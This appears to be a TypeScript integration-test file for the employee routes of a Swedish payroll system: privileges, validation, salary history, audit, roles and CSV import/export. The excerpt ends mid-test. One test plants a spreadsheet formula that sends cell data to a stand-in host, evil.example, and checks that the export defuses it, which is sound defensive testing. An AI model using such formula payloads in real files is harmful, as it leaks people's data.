import { EMPLOYEE_CSV_COLUMNS, parseCsv } from '@lonsam/domain/employees/employee-csv';
import { formatPersonnummer } from '@lonsam/domain/format/personnummer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../db/test-db.ts';
import { listEmployerScopedRoutes } from '../../http/employer-scope-guard.ts';
import {
  buildNewCompany,
  createCompany,
  makeOrgNumber,
  type SignedIn,
  signUpUser,
} from '../employer/testing/employer-test-helpers.ts';
import { HR_KOMPLETT, LON_BAS } from '../privileges/standard-packagings.ts';
import {
  buildEmployee,
  buildEmployment,
  type EmployerClient,
  employerClient,
  insertWorkplaceAndCostCentre,
  nextPersonnummer,
  signUpManager,
} from './testing/employee-test-helpers.ts';

let testApp: TestApp;
let admin: SignedIn;
let employerId: string;
let asAdmin: EmployerClient;

beforeAll(async () => {
  testApp = await buildTestApp();
  admin = await signUpUser(testApp.app, testApp.db);
  const company = await createCompany(
    testApp.app,
    admin,
    buildNewCompany({ orgNumber: makeOrgNumber(101), packagingId: HR_KOMPLETT.id }),
  );
  employerId = company.employerId;
  asAdmin = employerClient(testApp.app, admin, employerId, company.adminRoleId);
});
afterAll(async () => {
  await testApp.close();
});

async function countEmployees(): Promise<number> {
  const row = await testApp.db
    .selectFrom('employee')
    .select((eb) => eb.fn.countAll<string>().as('n'))
    .where('employer_id', '=', employerId)
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

async function createEmployee(employee = buildEmployee(), employment: unknown = buildEmployment()) {
  const response = await asAdmin('POST', '/employees', { ...employee, employment });
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
}

describe('every employee route declares its privilege', () => {
  it('names an Employee.* (or user-authorisation) privilege with read or write', () => {
    const routes = listEmployerScopedRoutes(testApp.app).filter(
      // Employee routes sit right under the employer; a payroll run's `…/employees/:id/recalculate` is a payroll route.
      (route) =>
        /\/employer\/:employerId\/(employees|my-employee)/.test(route.url) && route.method !== 'HEAD',
    );
    expect(routes.length).toBeGreaterThanOrEqual(17);
    for (const route of routes) {
      const access = route.employerAccess;
      expect(access, route.url).not.toBe('role');
      if (access === undefined || access === 'role') throw new Error(route.url);
      const ids = Array.isArray(access.privilege) ? access.privilege : [access.privilege];
      expect(
        ids.every((id) => id.startsWith('Employee.') || id === 'Users.Authorization.User'),
        route.url,
      ).toBe(true);
      expect(['read', 'write']).toContain(access.access);
    }
  });
});

describe('create and read', () => {
  it('creates an employee with an employment, derives the birth date, and reads it back', async () => {
    const personnummer = nextPersonnummer();
    const created = await createEmployee(
      buildEmployee({
        personnummer: `${personnummer.slice(0, 8)}-${personnummer.slice(8)}`,
        clearingNumber: '3300',
        accountNumber: personnummer.slice(2),
      }),
    );
    expect(created).toMatchObject({
      personnummer,
      birthDate: `${personnummer.slice(0, 4)}-${personnummer.slice(4, 6)}-${personnummer.slice(6, 8)}`,
      version: 1,
      tax: { method: 'table', table: 33, column: 1 },
      archivedAt: null,
    });
    expect(created.editableFields).toContain('accountNumber');
    const employments = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    expect(employments).toHaveLength(1);
    expect(employments[0]).toMatchObject({
      position: 'Kock',
      employmentRate: 100,
      vacation: { rule: 'sammaloneregeln', paidDaysPerYear: 25, supplementPercent: 0.8 },
      salaryRows: [{ validFrom: '2025-01-01', validTo: null, amountOre: 3_200_000 }],
    });
  });
});

describe('personnummer forms (issue #15)', () => {
  it('stores a ten-digit personnummer as 12 digits, shows it as YYYYMMDD-NNNN and knows it again in any form', async () => {
    const created = await createEmployee(buildEmployee({ personnummer: '900315-2387' }));
    expect(created).toMatchObject({ personnummer: '199003152387', birthDate: '1990-03-15' });
    const stored = await testApp.db
      .selectFrom('employee')
      .select('personnummer')
      .where('personnummer', 'like', '%9003152387')
      .execute();
    expect(stored).toEqual([{ personnummer: '199003152387' }]);
    const read = (await asAdmin('GET', `/employees/${created.id}`)).json();
    expect(formatPersonnummer(read.personnummer)).toBe('19900315-2387');
    for (const form of ['9003152387', '19900315-2387']) {
      const again = await asAdmin('POST', '/employees', buildEmployee({ personnummer: form }));
      expect(again.statusCode, form).toBe(409);
    }
  });

  it('refuses a ten-digit number with a wrong check digit with the Swedish message', async () => {
    const response = await asAdmin('POST', '/employees', buildEmployee({ personnummer: '900315-2388' }));
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({ personnummer: ['Ogiltigt personnummer'] });
  });
});

describe('validation: field errors in Swedish, nothing saved', () => {
  const cases: [string, Record<string, unknown>, string, string][] = [
    ['invalid personnummer', { personnummer: '19850312-0077' }, 'personnummer', 'Ogiltigt personnummer'],
    ['missing first name', { firstName: '' }, 'firstName', 'Förnamn krävs'],
    ['invalid email', { email: 'inte-en-adress' }, 'email', 'Ogiltig e-postadress'],
    ['invalid phone', { phone: 'abc' }, 'phone', 'Ogiltigt telefonnummer'],
    ['invalid postal code', { postalCode: '12' }, 'postalCode', 'Ogiltigt postnummer'],
    [
      'invalid bank account',
      { clearingNumber: '6000', accountNumber: '123456780' },
      'accountNumber',
      'Ogiltigt kontonummer',
    ],
    [
      'half a bank account',
      { clearingNumber: '3300' },
      'accountNumber',
      'Ange både clearingnummer och kontonummer',
    ],
    [
      'tax table out of range',
      { tax: { method: 'table', table: 43, column: 1 } },
      'tax.table',
      'Skattetabell ska vara 29–42',
    ],
    [
      'jämkning over 100 %',
      { tax: { method: 'adjusted-percent', percent: 120 } },
      'tax.percent',
      'Procent ska vara 0–100',
    ],
    [
      'end before start',
      { employment: buildEmployment({ endDate: '2024-12-31' }) },
      'employment.endDate',
      'Slutdatum får inte vara före startdatum',
    ],
    [
      'overlapping salary rows',
      {
        employment: buildEmployment({
          salaryRows: [
            { validFrom: '2025-01-01', validTo: '2025-06-30', amountOre: 1 },
            { validFrom: '2025-06-01', amountOre: 2 },
          ],
        }),
      },
      'employment.salaryRows.1.validFrom',
      'Lönerader får inte överlappa',
    ],
    [
      'salary before the employment',
      { employment: buildEmployment({ salaryRows: [{ validFrom: '2024-01-01', amountOre: 1 }] }) },
      'employment.salaryRows.0.validFrom',
      'Lönen kan inte gälla före anställningens start',
    ],
    [
      'a monthly salary above 10 000 000 kr (a few zeros too many)',
      {
        employment: buildEmployment({
          salaryRows: [{ validFrom: '2025-01-01', amountOre: 9_000_000_000_000_000 }],
        }),
      },
      'employment.salaryRows.0.amountOre',
      'Månadslönen får vara högst 10\u00a0000\u00a0000 kr',
    ],
    [
      'an hourly wage above 100 000 kr',
      {
        employment: buildEmployment({
          salaryForm: 'hourly',
          salaryRows: [{ validFrom: '2025-01-01', amountOre: 10_000_001 }],
        }),
      },
      'employment.salaryRows.0.amountOre',
      'Timlönen får vara högst 100\u00a0000 kr',
    ],
    [
      'fewer than 25 vacation days',
      { employment: buildEmployment({ vacation: { rule: 'sammaloneregeln', paidDaysPerYear: 20 } }) },
      'employment.vacation.paidDaysPerYear',
      'Minst 25 semesterdagar enligt semesterlagen, högst 60',
    ],
  ];
  it.each(cases)('%s', async (_name, change, field, message) => {
    const before = await countEmployees();
    const response = await asAdmin('POST', '/employees', {
      ...buildEmployee(),
      employment: buildEmployment(),
      ...change,
    });
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json().errors[field]).toContain(message);
    expect(await countEmployees()).toBe(before);
  });

  it('refuses a duplicate personnummer within the employer (409, field error) but not in another company', async () => {
    const employee = buildEmployee();
    await createEmployee(employee);
    const before = await countEmployees();
    const again = await asAdmin('POST', '/employees', { ...employee, firstName: 'Annan' });
    expect(again.statusCode).toBe(409);
    expect(again.json().errors).toEqual({ personnummer: ['Personnumret finns redan hos arbetsgivaren'] });
    expect(await countEmployees()).toBe(before);

    const other = await signUpUser(testApp.app, testApp.db);
    const company = await createCompany(
      testApp.app,
      other,
      buildNewCompany({ orgNumber: makeOrgNumber(102), packagingId: HR_KOMPLETT.id }),
    );
    const elsewhere = await employerClient(
      testApp.app,
      other,
      company.employerId,
      company.adminRoleId,
    )('POST', '/employees', employee);
    expect(elsewhere.statusCode).toBe(201);
  });

  it('refuses a manager that is not a manager role of the employer, and overlapping employments', async () => {
    const bad = await asAdmin('POST', '/employees', {
      ...buildEmployee(),
      employment: buildEmployment({ managerRoleId: '00000000-0000-4000-8000-000000000000' }),
    });
    expect(bad.json().errors).toEqual({ 'employment.managerRoleId': ['Ogiltig chef'] });
    const created = await createEmployee();
    const overlapping = await asAdmin(
      'POST',
      `/employees/${created.id}/employments`,
      buildEmployment({ startDate: '2025-06-01', salaryRows: [{ validFrom: '2025-06-01', amountOre: 1 }] }),
    );
    expect(overlapping.statusCode).toBe(400);
    expect(overlapping.json().errors).toEqual({
      startDate: ['Anställningen överlappar en annan anställning'],
    });
  });
});

describe('effective-dated salary', () => {
  it('caps a raise on an hourly employment at the hourly maximum', async () => {
    const created = await createEmployee(
      buildEmployee(),
      buildEmployment({ salaryForm: 'hourly', salaryRows: [{ validFrom: '2025-01-01', amountOre: 25_000 }] }),
    );
    const [employment] = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    const path = `/employees/${created.id}/employments/${employment.id}/salary-rows`;
    const tooHigh = await asAdmin('POST', path, {
      version: employment.version,
      validFrom: '2025-06-01',
      amountOre: 10_000_001,
    });
    expect(tooHigh.statusCode).toBe(400);
    expect(tooHigh.json().errors).toEqual({ amountOre: ['Timlönen får vara högst 100\u00a0000 kr'] });
    const allowed = await asAdmin('POST', path, {
      version: employment.version,
      validFrom: '2025-06-01',
      amountOre: 10_000_000,
    });
    expect(allowed.statusCode, allowed.body).toBe(201);
  });

  it('finds the salary in force on any date, with a raise registered later from an earlier date', async () => {
    const created = await createEmployee(
      buildEmployee(),
      buildEmployment({
        salaryRows: [
          { validFrom: '2025-01-01', amountOre: 3_000_000 },
          { validFrom: '2025-07-01', amountOre: 3_300_000 },
        ],
      }),
    );
    const [employment] = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    // Registered after March was paid, valid from 15 March.
    const raise = await asAdmin('POST', `/employees/${created.id}/employments/${employment.id}/salary-rows`, {
      version: employment.version,
      validFrom: '2025-03-15',
      amountOre: 3_150_000,
    });
    expect(raise.statusCode, raise.body).toBe(201);
    const salaryOn = async (date: string) =>
      (
        await asAdmin('GET', `/employees/${created.id}/employments/${employment.id}/salary?date=${date}`)
      ).json().amountOre;
    expect(await salaryOn('2024-12-31')).toBeNull();
    expect(await salaryOn('2025-01-01')).toBe(3_000_000);
    expect(await salaryOn('2025-03-14')).toBe(3_000_000);
    expect(await salaryOn('2025-03-15')).toBe(3_150_000);
    expect(await salaryOn('2025-06-30')).toBe(3_150_000);
    expect(await salaryOn('2025-07-01')).toBe(3_300_000);
    expect(await salaryOn('2031-01-01')).toBe(3_300_000);

    const duplicate = await asAdmin(
      'POST',
      `/employees/${created.id}/employments/${employment.id}/salary-rows`,
      {
        version: employment.version + 1,
        validFrom: '2025-07-01',
        amountOre: 1,
      },
    );
    expect(duplicate.statusCode).toBe(400);
    expect(duplicate.json().errors).toEqual({ validFrom: ['Lönerader får inte överlappa'] });

    const absurd = await asAdmin(
      'POST',
      `/employees/${created.id}/employments/${employment.id}/salary-rows`,
      {
        version: employment.version + 1,
        validFrom: '2025-09-01',
        amountOre: 1_000_000_001,
      },
    );
    expect(absurd.statusCode).toBe(400);
    expect(absurd.json().errors).toEqual({
      amountOre: ['Månadslönen får vara högst 10\u00a0000\u00a0000 kr'],
    });
    expect(await salaryOn('2025-09-01')).toBe(3_300_000);
  });
});

describe('optimistic concurrency', () => {
  it('answers 409 with the current values to a stale version, and saves nothing', async () => {
    const created = await createEmployee();
    const first = await asAdmin('PATCH', `/employees/${created.id}`, { version: 1, phone: '08-123 456' });
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json()).toMatchObject({ version: 2, phone: '08-123 456' });
    const stale = await asAdmin('PATCH', `/employees/${created.id}`, { version: 1, phone: '08-999 999' });
    expect(stale.statusCode).toBe(409);
    expect(stale.json()).toMatchObject({
      code: 'VERSION_CONFLICT',
      current: { version: 2, phone: '08-123 456' },
    });

    const [employment] = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    const { id: _id, employeeId: _e, endReason: _r, endNote: _n, version, ...body } = employment;
    const ok = await asAdmin('PUT', `/employees/${created.id}/employments/${employment.id}`, {
      ...body,
      version,
      position: 'Souschef',
    });
    expect(ok.statusCode, ok.body).toBe(200);
    const staleEmployment = await asAdmin('PUT', `/employees/${created.id}/employments/${employment.id}`, {
      ...body,
      version,
      position: 'Diskare',
    });
    expect(staleEmployment.statusCode).toBe(409);
    expect(staleEmployment.json().current).toMatchObject({ position: 'Souschef', version: version + 1 });
  });
});

describe('audit', () => {
  it('records who changed what, before and after, in the same transaction', async () => {
    const created = await createEmployee(buildEmployee({ clearingNumber: null, accountNumber: null }));
    const personnummer = created.personnummer as string;
    await asAdmin('PATCH', `/employees/${created.id}`, {
      version: 1,
      clearingNumber: '3300',
      accountNumber: personnummer.slice(2),
    });
    const events = (await asAdmin('GET', `/employees/${created.id}/audit`)).json();
    expect(events.map((event: { action: string }) => event.action)).toEqual([
      'employee.updated',
      'employment.created',
      'employee.created',
    ]);
    expect(events[0]).toMatchObject({
      before: { clearingNumber: null, accountNumber: null },
      after: { clearingNumber: '3300', accountNumber: personnummer.slice(2) },
    });
    expect(events[0].actor).toMatch(/@exempel\.se$/);

    // A failing change leaves neither the change nor its audit row.
    const stale = await asAdmin('PATCH', `/employees/${created.id}`, { version: 1, phone: '08-123 456 7' });
    expect(stale.statusCode).toBe(409);
    expect((await asAdmin('GET', `/employees/${created.id}/audit`)).json()).toHaveLength(3);
  });
});

describe('lifecycle', () => {
  it('terminates, archives (hidden by default), and restores', async () => {
    const created = await createEmployee(buildEmployee({ lastName: 'Livscykel' }));
    const early = await asAdmin('POST', `/employees/${created.id}/terminate`, {
      version: 1,
      endDate: '2024-06-30',
      reason: 'resignation',
    });
    expect(early.json().errors).toEqual({ endDate: ['Slutdatumet är före anställningens start'] });
    const terminated = await asAdmin('POST', `/employees/${created.id}/terminate`, {
      version: 1,
      endDate: '2025-08-31',
      reason: 'resignation',
    });
    expect(terminated.statusCode, terminated.body).toBe(200);
    const [employment] = (await asAdmin('GET', `/employees/${created.id}/employments`)).json();
    expect(employment).toMatchObject({ endDate: '2025-08-31', endReason: 'resignation' });

    const archived = await asAdmin('POST', `/employees/${created.id}/archive`, { version: 2 });
    expect(archived.json().archivedAt).not.toBeNull();
    const list = (await asAdmin('GET', '/employees?search=Livscykel')).json();
    expect(list.total).toBe(0);
    expect((await asAdmin('GET', '/employees?search=Livscykel&archived=only')).json().total).toBe(1);

    const restored = await asAdmin('POST', `/employees/${created.id}/restore`, { version: 3 });
    expect(restored.json()).toMatchObject({ archivedAt: null, version: 4 });
    expect((await asAdmin('GET', '/employees?search=Livscykel&status=ended')).json().total).toBe(1);
    expect((await asAdmin('GET', '/employees?search=Livscykel&status=active')).json().total).toBe(0);
  });

  it('lets a Lön Bas admin add and import employees; archiving stays behind its own privilege', async () => {
    // Lön Bas is sold for running the payroll of a small company: it must be able to add people (#15).
    const other = await signUpUser(testApp.app, testApp.db);
    const company = await createCompany(
      testApp.app,
      other,
      buildNewCompany({ orgNumber: makeOrgNumber(103), packagingId: LON_BAS.id }),
    );
    const client = employerClient(testApp.app, other, company.employerId, company.adminRoleId);
    const created = await client('POST', '/employees', {
      ...buildEmployee({ lastName: 'Basanställd' }),
      employment: buildEmployment({ endDate: '2025-06-30', employmentType: 'fixed-term' }),
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = [
      EMPLOYEE_CSV_COLUMNS.join(';'),
      EMPLOYEE_CSV_COLUMNS.map((column) =>
        column === 'förnamn'
          ? 'Importerad'
          : column === 'efternamn'
            ? 'Basimport'
            : column === 'personnummer'
              ? nextPersonnummer()
              : '',
      ).join(';'),
    ].join('\n');
    const preview = await client('POST', '/employees/import/preview', { csv });
    expect(preview.statusCode, preview.body).toBe(200);
    const imported = await client('POST', '/employees/import/commit', { csv });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toEqual({ created: 1 });
    const list = (await client('GET', '/employees?sort=name')).json();
    expect(list.items.map((item: { lastName: string }) => item.lastName)).toEqual([
      'Basanställd',
      'Basimport',
    ]);

    // Archiving and restoring belong to AdvancedAdministration (Lön Komplett and up).
    const archived = await client('POST', `/employees/${created.json().id}/archive`, { version: 1 });
    expect(archived.statusCode).toBe(403);
    expect(archived.json().code).toBe('PRIVILEGE_MISSING');
  });
});

describe('roles: admin, manager of a team, user for self, other companies never', () => {
  let managerUser: SignedIn;
  let managerRoleId: string;
  let asManager: EmployerClient;
  let teamMember: { id: string };
  let outsider: { id: string };
  let employeeUser: SignedIn;
  let asEmployee: EmployerClient;
  let own: { id: string; employmentId: string };

  beforeAll(async () => {
    ({ user: managerUser, roleId: managerRoleId } = await signUpManager(testApp.app, testApp.db, employerId));
    asManager = employerClient(testApp.app, managerUser, employerId, managerRoleId);
    teamMember = await createEmployee(
      buildEmployee({ lastName: 'Teammedlem' }),
      buildEmployment({ managerRoleId }),
    );
    outsider = await createEmployee(buildEmployee({ lastName: 'Utanför' }));

    // The employee signs up first; creating the employment links a user role by email.
    employeeUser = await signUpUser(testApp.app, testApp.db);
    const email = (
      await testApp.db
        .selectFrom('identity')
        .select('email')
        .orderBy('created_at', 'desc')
        .executeTakeFirstOrThrow()
    ).email!;
    const created = await createEmployee(
      buildEmployee({ lastName: 'Självsson', email }),
      buildEmployment({ managerRoleId }),
    );
    expect(created.userRoleId).toEqual(expect.any(String));
    own = created;
    asEmployee = employerClient(testApp.app, employeeUser, employerId, created.userRoleId);
  });

  it('a manager lists and reads only their team, read-only', async () => {
    const list = (await asManager('GET', '/employees?pageSize=100')).json();
    const names = list.items.map((item: { lastName: string }) => item.lastName).sort();
    expect(names).toEqual(['Självsson', 'Teammedlem']);
    expect(list.items[0]).not.toHaveProperty('currentSalaryOre');
    expect((await asManager('GET', `/employees/${teamMember.id}`)).statusCode).toBe(200);
    expect((await asManager('GET', `/employees/${outsider.id}`)).statusCode).toBe(404);
    const team = (await asManager('GET', `/employees/${teamMember.id}`)).json();
    expect(team.editableFields).toEqual([]);
    expect(team).not.toHaveProperty('tax');
    const patch = await asManager('PATCH', `/employees/${teamMember.id}`, {
      version: 1,
      phone: '08-123 456 7',
    });
    expect(patch.statusCode).toBe(403);
    const employments = (await asManager('GET', `/employees/${teamMember.id}/employments`)).json();
    expect(employments[0]).not.toHaveProperty('salaryRows');
  });

  it('a user sees only their own record and may edit only contact details and bank account', async () => {
    expect((await asEmployee('GET', '/employees')).statusCode).toBe(403);
    expect((await asEmployee('GET', `/employees/${outsider.id}`)).statusCode).toBe(404);
    const mine = await asEmployee('GET', '/my-employee');
    expect(mine.statusCode, mine.body).toBe(200);
    expect(mine.json()).toMatchObject({ id: own.id, lastName: 'Självsson' });
    expect(mine.json().editableFields.sort()).toEqual(
      ['accountNumber', 'city', 'clearingNumber', 'email', 'phone', 'postalCode', 'streetAddress'].sort(),
    );
    const rename = await asEmployee('PATCH', `/employees/${own.id}`, { version: 1, lastName: 'Annan' });
    expect(rename.statusCode).toBe(403);
    expect(rename.json().errors).toEqual({ lastName: ['Du får inte ändra det här fältet'] });
    const phone = await asEmployee('PATCH', `/employees/${own.id}`, { version: 1, phone: '070-765 43 21' });
    expect(phone.statusCode, phone.body).toBe(200);
    const employments = (await asEmployee('GET', `/employees/${own.id}/employments`)).json();
    expect(employments).toHaveLength(1);
    expect(employments[0]).not.toHaveProperty('salaryRows');
    expect((await asEmployee('POST', `/employees/${own.id}/archive`, { version: 2 })).statusCode).toBe(403);
  });

  it('a user holds their balances read-only: setting their own opening balances is refused (#23)', async () => {
    // Packaging mode gave a held privilege write too, so the employee could set their own vacation days.
    const mine = (await asEmployee('GET', '/my-employee')).json();
    const attempt = await asEmployee('PUT', `/employees/${own.id}/opening-balances`, {
      version: mine.version,
      asOf: '2025-03-31',
      vacation: { savedDays: 50, paidDays: 50, advanceDays: 0 },
      yearToDate: { grossOre: 0, taxOre: 0, benefitsOre: 0 },
    });
    expect(attempt.statusCode, attempt.body).toBe(403);
    expect(attempt.json().code).toBe('PRIVILEGE_MISSING');
    const after = (await asEmployee('GET', '/my-employee')).json();
    expect(after.version).toBe(mine.version);
    // Reading stays, and so does writing what is the employee's own: their phone number.
    const phone = await asEmployee('PATCH', `/employees/${own.id}`, {
      version: mine.version,
      phone: '070-111 22 33',
    });
    expect(phone.statusCode, phone.body).toBe(200);
  });

  it('another company never: its admin gets 403 here, and our ids are unknown under its own employer', async () => {
    const other = await signUpUser(testApp.app, testApp.db);
    const company = await createCompany(
      testApp.app,
      other,
      buildNewCompany({ orgNumber: makeOrgNumber(104), packagingId: HR_KOMPLETT.id }),
    );
    const intruder = employerClient(testApp.app, other, employerId, company.adminRoleId);
    const forbidden = await intruder('GET', `/employees/${teamMember.id}`);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().code).toBe('EMPLOYER_ROLE_FORBIDDEN');
    const ownCompany = employerClient(testApp.app, other, company.employerId, company.adminRoleId);
    expect((await ownCompany('GET', `/employees/${teamMember.id}`)).statusCode).toBe(404);
    expect(
      (await ownCompany('PATCH', `/employees/${teamMember.id}`, { version: 1, phone: '08-123 456 7' }))
        .statusCode,
    ).toBe(404);
    expect((await ownCompany('GET', '/employees')).json().total).toBe(0);
  });

  it("a manager's audit of a team member leaves out salaries and tax settings, and says something is hidden", async () => {
    const before = (await asAdmin('GET', `/employees/${teamMember.id}`)).json();
    const tax = await asAdmin('PATCH', `/employees/${teamMember.id}`, {
      version: before.version,
      tax: { method: 'adjusted-percent', percent: 37 },
      city: 'Uppsala',
    });
    expect(tax.statusCode, tax.body).toBe(200);
    const [employment] = (await asAdmin('GET', `/employees/${teamMember.id}/employments`)).json();
    const raise = await asAdmin(
      'POST',
      `/employees/${teamMember.id}/employments/${employment.id}/salary-rows`,
      {
        version: employment.version,
        validFrom: '2026-07-01',
        amountOre: 7_777_700,
      },
    );
    expect(raise.statusCode, raise.body).toBe(201);

    const response = await asManager('GET', `/employees/${teamMember.id}/audit`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.body).not.toMatch(/amountOre|7777700|3200000|salaryRows|percent|"tax"|pension/);
    const events = response.json();
    const byAction = (action: string) => events.find((event: { action: string }) => event.action === action);
    expect(byAction('salary-row.added')).toMatchObject({ before: null, after: null, hiddenChanges: true });
    expect(byAction('employee.updated')).toMatchObject({
      before: { city: 'Stockholm' },
      after: { city: 'Uppsala' },
      hiddenChanges: true,
    });
    expect(byAction('employment.created')).toMatchObject({
      after: { position: 'Kock' },
      hiddenChanges: true,
    });
    expect(byAction('employee.created').after).toMatchObject({ lastName: 'Teammedlem' });

    // The admin, who may read everything, sees it all and nothing hidden.
    const full = (await asAdmin('GET', `/employees/${teamMember.id}/audit`)).json();
    expect(full.every((event: { hiddenChanges: boolean }) => event.hiddenChanges === false)).toBe(true);
    expect(full.find((event: { action: string }) => event.action === 'salary-row.added').after).toMatchObject(
      {
        validFrom: '2026-07-01',
        amountOre: 7_777_700,
      },
    );
  });

  it("an employee's 409 answer holds exactly what their own GET shows, no hidden field", async () => {
    const stored = (await asAdmin('GET', `/employees/${own.id}`)).json();
    const hidden = await asAdmin('PATCH', `/employees/${own.id}`, {
      version: stored.version,
      customFields: { Skostorlek: '43' },
      growthSupport: true,
    });
    expect(hidden.statusCode, hidden.body).toBe(200);
    const stale = await asEmployee('PATCH', `/employees/${own.id}`, { version: 1, city: 'Lund' });
    expect(stale.statusCode, stale.body).toBe(409);
    expect(stale.json().code).toBe('VERSION_CONFLICT');
    const current = stale.json().current;
    expect(current).not.toHaveProperty('customFields');
    expect(current).not.toHaveProperty('growthSupport');
    expect(current).toEqual((await asEmployee('GET', `/employees/${own.id}`)).json());
    expect(current).toEqual((await asEmployee('GET', '/my-employee')).json());
  });

  it('a formula an employee plants in their address is exported as text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&C2,"Öppna")';
    const mine = (await asEmployee('GET', '/my-employee')).json();
    const planted = await asEmployee('PATCH', `/employees/${own.id}`, {
      version: mine.version,
      streetAddress: formula,
    });
    expect(planted.statusCode, planted.body).toBe(200);

    const response = await asAdmin('GET', '/employees/export?search=Självsson');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&C2,""Öppna"")"`);
    // No cell of the file starts with what a spreadsheet would run.
    const cells = [...response.body.replace('\uFEFF', '').matchAll(/(?:^|[;\n])"((?:[^"]|"")*)"/g)];
    expect(cells.length).toBeGreaterThan(EMPLOYEE_CSV_COLUMNS.length);
    expect(cells.filter(([, cell]) => /^[=+\-@\t\r]/.test(cell!))).toEqual([]);
    // The product's reader gives the typed value back, so the file can be imported again.
    const [header, row] = parseCsv(response.body);
    expect(row![header!.indexOf('gatuadress')]).toBe(formula);
  });

  it("a manager's export shows the columns of the team member's GET, no more", async () => {
    const response = await asManager('GET', '/employees/export?search=Teammedlem');
    expect(response.statusCode, response.body).toBe(200);
    const [header, row] = parseCsv(response.body);
    const cell = (column: string) => row![header!.indexOf(column)];
    const shown = (await asManager('GET', `/employees/${teamMember.id}`)).json();
    expect(shown).not.toHaveProperty('tax');
    expect([cell('skattetabell'), cell('skattekolumn'), cell('lön')]).toEqual(['', '', '']);
    expect([cell('telefon'), cell('ort')]).toEqual([shown.phone, shown.city]);
  });
});

describe('CSV import and export', () => {
  const header = 'förnamn;efternamn;personnummer;skattetabell;skattekolumn;befattning;startdatum;lön';

  it('previews per-row errors, refuses the whole file on any error, then imports all rows', async () => {
    const a = nextPersonnummer();
    const b = nextPersonnummer();
    const bad = [
      header,
      `Import;Ett;${a};33;1;Kock;2025-02-01;31 000`,
      // Another check digit than the right one (a fixed 0 would be right for one number in ten).
      `Import;Två;${b.slice(0, 11)}${(Number(b.at(-1)) + 1) % 10};33;1;Kock;2025-02-01;29 000,50`,
    ].join('\n');
    const preview = (await asAdmin('POST', '/employees/import/preview', { csv: bad })).json();
    expect(preview).toMatchObject({ validCount: 1, invalidCount: 1 });
    expect(preview.rows[1]).toMatchObject({ line: 3 });
    const before = await countEmployees();
    const refused = await asAdmin('POST', '/employees/import/commit', { csv: bad });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({ code: 'IMPORT_HAS_ERRORS', invalidCount: 1 });
    expect(await countEmployees()).toBe(before);

    const good = [
      header,
      `Import;Ett;${a};33;1;Kock;2025-02-01;31 000`,
      `Import;Två;${b};30;1;Servitör;2025-02-01;29 000,50`,
    ].join('\n');
    const committed = await asAdmin('POST', '/employees/import/commit', { csv: good });
    expect(committed.statusCode, committed.body).toBe(200);
    expect(committed.json()).toEqual({ created: 2 });
    expect(await countEmployees()).toBe(before + 2);
    const again = (await asAdmin('POST', '/employees/import/preview', { csv: good })).json();
    expect(again.rows[0].errors).toEqual({ personnummer: ['Personnumret finns redan hos arbetsgivaren'] });
  });

  it('exports the filtered list in the import columns', async () => {
    const response = await asAdmin('GET', '/employees/export?search=Import');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    const lines = response.body.replace('\uFEFF', '').split('\r\n');
    expect(lines[0]).toContain('"förnamn";"efternamn";"personnummer"');
    expect(lines).toHaveLength(3);
    expect(lines.some((line) => line.includes('"29000,50"'))).toBe(true);
  });
});

describe('list: paging, sorting, filters', () => {
  it('pages with a total, sorts and filters by employment fields', async () => {
    for (const [index, name] of ['Öberg', 'Åkesson', 'Bengtsson'].entries()) {
      await createEmployee(
        buildEmployee({ lastName: name, firstName: 'Sortering' }),
        buildEmployment({
          ...(await insertWorkplaceAndCostCentre(testApp.db, employerId, {
            workplace: `Sorteringen ${index}`,
            costCentre: `9${index}`,
          })),
          employmentType: index === 0 ? 'hourly' : 'permanent',
          salaryForm: index === 0 ? 'hourly' : 'monthly',
        }),
      );
    }
    const page = (await asAdmin('GET', '/employees?search=Sortering&pageSize=2&sort=name')).json();
    expect(page.total).toBe(3);
    expect(page.items).toHaveLength(2);
    const second = (await asAdmin('GET', '/employees?search=Sortering&pageSize=2&page=2')).json();
    expect(second.items).toHaveLength(1);
    expect(
      (await asAdmin('GET', '/employees?search=Sortering&employmentType=hourly'))
        .json()
        .items.map((i: { lastName: string }) => i.lastName),
    ).toEqual(['Öberg']);
    expect((await asAdmin('GET', '/employees?search=Sortering&costCentre=91')).json().total).toBe(1);
    expect((await asAdmin('GET', '/employees?search=Sortering&page=9')).json()).toMatchObject({
      total: 3,
      items: [],
    });
    const desc = (await asAdmin('GET', '/employees?search=Sortering&sort=name&order=desc')).json();
    expect(desc.items[0].currentSalaryOre).toBe(3_200_000);
  });
});

describe('sample data of a test company', () => {
  it('gives complete employees and employments: varied salaries, tax tables, ages and vacation terms', async () => {
    const owner = await signUpUser(testApp.app, testApp.db);
    const company = await createCompany(
      testApp.app,
      owner,
      buildNewCompany({
        orgNumber: '',
        packagingId: HR_KOMPLETT.id,
        demoData: { demo: true, extraEmployees: 30, monthsBack: 3 },
      }),
    );
    const client = employerClient(testApp.app, owner, company.employerId, company.adminRoleId);
    const list = (await client('GET', '/employees?pageSize=100')).json();
    expect(list.total).toBe(30);
    expect(list.items.every((item: { employmentId: string | null }) => item.employmentId !== null)).toBe(
      true,
    );
    const salaries = new Set(list.items.map((item: { currentSalaryOre: number }) => item.currentSalaryOre));
    expect(salaries.size).toBeGreaterThan(10);
    const thisYear = new Date().getUTCFullYear();
    const ages = list.items.map(
      (item: { birthDate: string }) => thisYear - Number(item.birthDate.slice(0, 4)),
    );
    expect(ages.some((age: number) => age >= 67)).toBe(true);
    expect(ages.some((age: number) => age >= 19 && age <= 23)).toBe(true);
